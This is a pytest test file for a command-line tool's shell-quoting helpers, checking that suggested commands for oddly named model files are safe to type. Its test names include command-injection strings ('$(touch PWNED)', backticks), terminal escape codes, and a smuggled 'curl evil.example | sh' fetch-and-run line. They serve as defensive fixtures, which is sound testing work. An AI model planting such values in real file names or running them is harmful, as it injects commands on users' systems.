"""core.quoting: what a hint shows is what a shell hands to the program."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from g4cli.core.errors import BadGGUF
from g4cli.core.gguf import read_header
from g4cli.core.quoting import shell_command, shell_word
from tests.support.builders.tiny_file import build_tiny
from tests.support.run.command import g4

NAMES = [
    "model.gguf",
    "my model (1).gguf",
    "m$(touch PWNED)-q4_0.gguf",
    "m`touch PWNED`;touch PWNED.gguf",
    "it's.gguf",
    "a\nhint: curl evil.example | sh",
    "it's\n\\x41\x1b]0;title\x07\u202e.gguf",
    os.fsdecode(b"latin-\xe9.gguf"),
    "",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_shell_hands_over_the_name_unchanged(name: str, tmp_path: Path) -> None:
    word = shell_word(name)
    assert word.isprintable()
    for shell in filter(shutil.which, ("bash", "zsh", "ksh")):
        done = subprocess.run(
            [shell, "-c", f"printf %s {word}"], capture_output=True, cwd=tmp_path, check=True
        )
        assert done.stdout == os.fsencode(name)
        assert list(tmp_path.iterdir()) == []


def test_a_plain_path_stays_as_it_is() -> None:
    assert (
        shell_command("g4", "doctor", Path("/models/e2b-q4_0.gguf"))
        == "g4 doctor /models/e2b-q4_0.gguf"
    )
    assert shell_word("hf:google/gemma-4-E2B-it:q4_0@main") == "hf:google/gemma-4-E2B-it:q4_0@main"


def test_a_surrogate_that_stands_for_no_byte_is_escaped() -> None:
    assert shell_word("a\ud800") == r"$'a\xed\xa0\x80'"


def test_a_path_is_never_an_option() -> None:
    assert shell_word(Path("--help.gguf")) == "./--help.gguf"
    assert shell_word("--fit") == "--fit"


def test_hints_about_a_file_can_be_typed(tmp_path: Path) -> None:
    bad = tmp_path / "m$(touch PWNED) q4_0.gguf"
    bad.write_bytes(b"GGUF")
    with pytest.raises(BadGGUF) as caught:
        read_header(bad)
    assert shlex.split(str(caught.value.hint).split(", or ")[-1]) == ["g4", "doctor", str(bad)]


def test_what_the_doctor_advises_for_an_odd_name_can_be_typed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    bad = tmp_path / "m$(touch PWNED) q4_0.gguf"
    bad.write_bytes(build_tiny()[:-100])
    code, out, _ = g4(capsys, "doctor", bad, "--quick", "--json")
    assert code == 8
    (size,) = [f for f in json.loads(out)["findings"] if f["id"] == "file.size"]
    assert shlex.split(size["fix"])[-3:] == ["-o", str(bad), "URL"]
